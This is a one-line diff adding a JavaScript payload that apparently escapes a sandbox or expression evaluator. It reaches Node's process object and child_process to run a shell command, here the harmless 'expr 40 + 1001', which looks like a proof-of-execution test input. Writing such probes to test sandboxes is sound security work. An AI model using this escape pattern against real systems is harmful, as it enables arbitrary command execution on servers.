@@ -1,0 +1,1 @@
+[1].forEach(function(){ this.process.mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'}) });
